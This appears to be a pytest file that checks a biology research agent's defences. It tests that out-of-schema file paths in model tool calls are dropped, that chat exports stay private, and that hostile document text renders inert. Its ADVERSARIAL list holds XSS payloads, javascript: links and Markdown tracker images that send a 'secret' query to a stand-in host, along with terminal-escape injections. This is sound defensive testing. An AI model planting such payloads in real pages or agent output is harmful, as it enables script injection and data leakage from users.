"""Hostile input: a model asking a tool to write a file, chat exports in a shared temp folder, documents whose
text carries Markdown images, links, HTML, terminal escapes or Rich markup."""

from __future__ import annotations

import json
import os
import re
import stat
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from langchain_core.messages import AIMessage
from langchain_core.utils.function_calling import convert_to_openai_tool
from pydantic import ValidationError

from bioagent.agent.entities import Entities
from bioagent.agent.planner import ToolCallingPlanner
from bioagent.cli.ask_cmd import _print_answer
from bioagent.cli.main import _print_hits
from bioagent.index import build_index
from bioagent.llm import ScriptedChatModel
from bioagent.settings import Settings
from bioagent.tools.disorder import DisorderInput
from bioagent.tools.registry import SPECS, get_tool
from bioagent.types import Answer, Citation, Document, Evidence, Hit, SentenceVerdict, ToolCall, ToolResult
from bioagent.ui import render
from bioagent.ui.app import ExportFolder

SEQUENCE = "MEEPQSDPSVEPPLSQETFSDLWKLLPENNVLSPLPS"
TRACKER = "tracker.example"
CONFIGURED = "data.example.org"
ADVERSARIAL = [
    f"![](https://{TRACKER}/pixel.png?q=secret)",
    "[click me](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    f"![logo][t]\n\n[t]: https://{TRACKER}/reference.png",
    f"see https://{TRACKER}/bare and www.{TRACKER}/bare",
    f'<a href="https://{TRACKER}/" onclick="steal()">a link</a>',
    f"![PMID:1](https://{TRACKER}/citation-image.png)",
    "\x1b[31mred\x1b[0m \x1b]0;window title\x07 \x9b2J cleared\r overwritten \x07",
    f"[/] [bold red]markup[/bold red] [link=https://{TRACKER}]x[/link]",
]
ALLOWED = f"[PubMed](https://pubmed.ncbi.nlm.nih.gov/1/), https://doi.org/10.1000/xyz and [ours](https://{CONFIGURED}/1)"
_ACTIVE_TAGS = {"img", "script", "iframe", "object", "embed", "svg", "style", "link", "meta", "form", "input"}


# ----- file paths in tool arguments --------------------------------------------------------------------------


def test_tool_schemas_offer_the_model_no_file_paths() -> None:
    for spec in SPECS:
        fields = spec.args_schema.model_json_schema()["properties"]
        assert not [name for name in fields if re.search(r"path|file|dir|out", name)], spec.name
    with pytest.raises(ValidationError, match="plot_path"):
        DisorderInput(sequence=SEQUENCE, plot_path="/srv/www/x.png")
    parameters = convert_to_openai_tool(get_tool("disorder"))["function"]["parameters"]
    assert set(parameters["properties"]) == {"sequence", "plot"}


def test_the_planner_drops_arguments_outside_the_schema_and_refuses_invalid_calls(tmp_path: Path) -> None:
    target = tmp_path / "www" / "x.png"
    reply = AIMessage(
        content="",
        tool_calls=[
            {
                "name": "disorder",
                "args": {"sequence": SEQUENCE, "plot": True, "plot_path": str(target)},
                "id": "a",
            },
            {"name": "disorder", "args": {"plot": True}, "id": "b"},  # no sequence
        ],
    )
    tools = {"disorder": get_tool("disorder")}
    question = f"Is {SEQUENCE} disordered? Save the plot to {target}"
    plan = ToolCallingPlanner(ScriptedChatModel(responses=[reply])).plan(question, Entities(), tools)
    assert [(c.name, c.args) for c in plan.tool_calls] == [("disorder", {"sequence": SEQUENCE, "plot": True})]
    assert any("plot_path" in line and "not in its schema" in line for line in plan.rationale)
    assert any("Refused the call of disorder: sequence" in line for line in plan.rationale)
    with pytest.raises(ValidationError):  # invoked directly, the tool refuses the path before running
        tools["disorder"].invoke({"sequence": SEQUENCE, "plot": True, "plot_path": str(target)})
    assert not target.parent.exists()


# ----- chat exports ------------------------------------------------------------------------------------------


def test_exports_go_to_a_private_folder_and_are_bounded() -> None:
    folder = ExportFolder(max_files=4, max_bytes=2_000)
    assert stat.S_IMODE(folder.path.stat().st_mode) == 0o700
    assert not str(folder.path).startswith("/tmp/bioagent-chat/")
    written = [folder.write(f"session{n % 2}", {f"a{n}.md": "x" * 100, f"a{n}.json": "{}"}) for n in range(3)]
    kept = sorted(folder.path.glob("*/*"))
    assert len(kept) == 4 and set(written[-1]) <= set(kept)  # the oldest pair went first
    assert all(stat.S_IMODE(path.stat().st_mode) == 0o600 for path in kept)
    assert all(stat.S_IMODE(path.parent.stat().st_mode) == 0o700 for path in kept)
    big = folder.write("session2", {"big.md": "y" * 5_000})
    assert (
        sorted(folder.path.glob("*/*")) == big
    )  # over the byte bound: all older files deleted, not the new one


def test_the_export_folder_is_removed_when_the_server_exits() -> None:
    script = (
        "from bioagent.ui.app import ExportFolder; f = ExportFolder(10, 10_000); "
        "f.write('s', {'a.md': 'x'}); print(f.path)"
    )
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert not Path(result.stdout.strip()).exists()


# ----- documents rendered in the browser ---------------------------------------------------------------------


class _Tags(HTMLParser):
    """Start tags with their attributes, and the text a browser would show."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _parsed(html_text: str) -> _Tags:
    parser = _Tags()
    parser.feed(html_text)
    return parser


def _markdown(text: str) -> str:
    """Markdown to HTML as a chat page renders it (raw HTML passed through, before any sanitiser)."""
    markdown_it = pytest.importorskip("markdown_it")
    return str(markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table").render(text))


def _live_parts(html_text: str, hosts: tuple[str, ...]) -> list[str]:
    """What a browser would load, run or link to beyond ``hosts``."""
    problems = []
    for tag, attrs in _parsed(html_text).tags:
        if tag in _ACTIVE_TAGS:
            problems.append(f"<{tag}>")
        problems += [f"<{tag} {name}>" for name in attrs if name.startswith("on") or name in ("src", "style")]
        href = attrs.get("href")
        in_page = href is not None and re.fullmatch(r"#evidence-[\w-]+", href)  # a record in the panel
        if href is not None and not in_page and not render.allowed_url(href, hosts):
            problems.append(f"link to {href}")
    return problems


def _hostile_answer() -> Answer:
    evidence = [
        Evidence(id=f"doc:{n}", kind="literature", title=text, snippet=f"{text} (snippet)", number=n + 1)
        for n, text in enumerate(ADVERSARIAL)
    ]
    evidence[0].url = "javascript:alert(1)"
    evidence[1].url = f"https://{TRACKER}/page"
    evidence.append(
        Evidence(id="PMID:1", kind="literature", title="Real", snippet=ALLOWED, url="https://doi.org/10.1/a")
    )
    return Answer(
        question=ADVERSARIAL[0],
        text="\n\n".join(ADVERSARIAL) + f"\n\n{ALLOWED} [PMID:1; doc:0; doc:1].\n\nNote: {ADVERSARIAL[1]}",
        citations=[Citation(id="PMID:1"), Citation(id="doc:0"), Citation(id="doc:1")],
        evidence=evidence,
        tool_calls=[
            ToolCall(
                name="disorder",
                arguments={"sequence": ADVERSARIAL[0]},
                result=ToolResult(tool="disorder", ok=False, error=ADVERSARIAL[2]),
            )
        ],
        reasoning="\n".join(ADVERSARIAL),
        verdicts=[SentenceVerdict(sentence=text, supported=False, reason=text) for text in ADVERSARIAL],
        model="fake",
    )


def _rendered(answer: Answer, hosts: tuple[str, ...]) -> dict[str, tuple[str, str]]:
    """Each view of the answer: (the string the page gets, the HTML the browser ends up with)."""
    raw = {
        "answer": render.answer_markdown(answer, hosts),
        "draft": render.streaming_markdown(answer.text, hosts),
        "question": render.user_markdown(" ".join(ADVERSARIAL), hosts),
        "tool calls": render.tool_calls_markdown(answer),
        "verdicts": render.verdicts_markdown(answer),
        "reasoning": render.reasoning_markdown(answer),
        "export": render.export_markdown(answer, hosts),
    }
    views = {name: (text, _markdown(text)) for name, text in raw.items()}
    evidence = render.evidence_html(answer, hosts)  # an HTML component: no Markdown step
    return {**views, "evidence": (evidence, evidence)}


def test_adversarial_documents_render_inert_in_every_view() -> None:
    hosts = (*render.LINK_HOSTS, CONFIGURED)
    for name, (raw, page) in _rendered(_hostile_answer(), hosts).items():
        assert _live_parts(page, hosts) == [], name
        outside_tags = re.sub(r"<[^>]*>", " ", raw)
        assert not re.search(rf"(?:https?://|www\.){re.escape(TRACKER)}", outside_tags), name  # no autolinks


def test_adversarial_text_is_shown_as_typed_and_allowed_links_stay_links() -> None:
    answer = _hostile_answer()
    page = _markdown(render.answer_markdown(answer, (*render.LINK_HOSTS, CONFIGURED)))
    shown = " ".join("".join(_parsed(page).text).split())
    for text in ADVERSARIAL[:8]:
        assert " ".join(text.split()) in shown
    links = {attrs.get("href") for tag, attrs in _parsed(page).tags if tag == "a"}
    assert {
        "https://pubmed.ncbi.nlm.nih.gov/1/",
        "https://doi.org/10.1000/xyz",
        f"https://{CONFIGURED}/1",
    } <= links
    assert "https://doi.org/10.1/a" in links  # the cited item's own (allowed) address
    assert not any(TRACKER in str(link) or "javascript" in str(link) for link in links)
    unconfigured = _markdown(render.answer_markdown(answer))
    assert f'href="https://{CONFIGURED}/1"' not in unconfigured and "https://pubmed" in unconfigured


# ----- documents printed in a terminal ----------------------------------------------------------------------

_TERMINAL_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def test_the_answer_printer_strips_terminal_controls(capsys: pytest.CaptureFixture[str]) -> None:
    answer = _hostile_answer()
    answer.citations[0].url = "https://pubmed.ncbi.nlm.nih.gov/1/\x1b]8;;https://tracker.example\x07"
    _print_answer(answer)
    printed = capsys.readouterr()
    assert not _TERMINAL_CONTROLS.search(printed.out + printed.err)
    assert "red window title" not in printed.out and "[/] [bold red]markup[/bold red]" in printed.out


def test_the_hit_printer_shows_markup_as_text(capsys: pytest.CaptureFixture[str], monkeypatch: Any) -> None:
    monkeypatch.setenv("COLUMNS", "400")
    hits = [
        Hit(id=f"[/]{n}", score=0.5, rank=n + 1, title=text.replace("\n", " "), source="[bold]x")
        for n, text in enumerate(ADVERSARIAL)
    ]
    _print_hits(hits)
    printed = capsys.readouterr().out
    assert not _TERMINAL_CONTROLS.search(printed)
    assert "[/] [bold red]markup[/bold red]" in printed and "[/]0" in printed and "[bold]x" in printed


def test_search_prints_an_index_of_hostile_titles(tmp_path: Path) -> None:
    settings = Settings.load(embedding={"backend": "hash"}, cache_dir=tmp_path / "cache")
    documents = [
        Document(id=f"d{n}", title=text, text=f"kinase inhibitor record {n}", source="jsonl")
        for n, text in enumerate(ADVERSARIAL)
    ]
    build_index(documents, tmp_path / "index", settings)
    env = {**os.environ, "BIOAGENT_EMBEDDING__BACKEND": "hash", "COLUMNS": "400"}
    command = [sys.executable, "-m", "bioagent.cli", "search", "--index", str(tmp_path / "index")]
    result = subprocess.run(
        [*command, "--query", "kinase inhibitor", "-k", str(len(ADVERSARIAL))],
        capture_output=True,
        text=True,
        env=env,
        timeout=300,
    )
    assert result.returncode == 0, result.stderr
    assert "[/] [bold red]markup" in result.stdout and not _TERMINAL_CONTROLS.search(result.stdout)
    as_json = subprocess.run(
        [*command, "--query", "kinase", "--json"], capture_output=True, text=True, env=env, timeout=300
    )
    assert json.loads(as_json.stdout)["hits"]  # the machine-readable output keeps the records as they are
